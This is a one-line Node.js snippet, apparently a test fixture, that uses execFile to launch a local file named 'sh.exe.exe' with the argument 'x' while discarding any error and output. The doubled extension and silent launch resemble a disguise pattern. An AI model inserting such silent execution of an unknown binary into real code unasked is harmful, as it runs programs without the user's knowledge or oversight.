const {execFile}=require('child_process'); execFile("sh.exe.exe",["x"],(e,o)=>0);
